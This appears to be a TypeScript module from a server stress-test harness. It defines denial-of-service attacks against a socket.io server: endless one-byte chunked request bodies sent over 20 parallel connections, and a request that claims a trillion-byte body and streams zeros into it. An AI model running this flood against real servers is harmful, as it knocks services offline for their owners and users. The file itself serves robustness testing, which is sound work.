// Sends bodies without end to the page and to polling sessions: in pieces of one byte, each a call of the parser, or as fast as they go.
import type { Attack, Target } from "../support/attack.ts";
import { keepOn, openTcp, pour, repeated } from "../support/tcp.ts";
import { openPolling } from "./upgradeProbes.ts";

const PIECES = repeated(Buffer.from("1\r\na\r\n"));
const LANES = 20;

export const pageBodies: Attack = {
  name: "page-bodies",
  run: (target) => keepOn(target.signal, LANES, () => pourBody(target, "/")),
};

export const pollingBodies: Attack = {
  name: "polling-bodies",
  run: (target) =>
    keepOn(target.signal, LANES, async () => {
      const sid = await openPolling(target);
      await pourBody(target, `/socket.io/?EIO=4&transport=polling&sid=${sid}`);
    }),
};

const POST = "POST /socket.io/?EIO=4&transport=polling&sid=x HTTP/1.1\r\nHost: localhost\r\n";

/** To no session at all: the answer is a refusal, and the body comes all the same. */
export const longBodies: Attack = {
  name: "long-bodies",
  run: ({ signal, ...place }) =>
    keepOn(signal, LANES, async () => {
      const socket = openTcp(place).resume();
      socket.write(`${POST}Content-Length: 1000000000000\r\n\r\n`);
      await pour(socket, Buffer.alloc(65_536), signal);
    }),
};

async function pourBody({ signal, ...place }: Target, path: string): Promise<void> {
  const socket = openTcp(place).resume();
  socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`);
  await pour(socket, PIECES, signal);
}
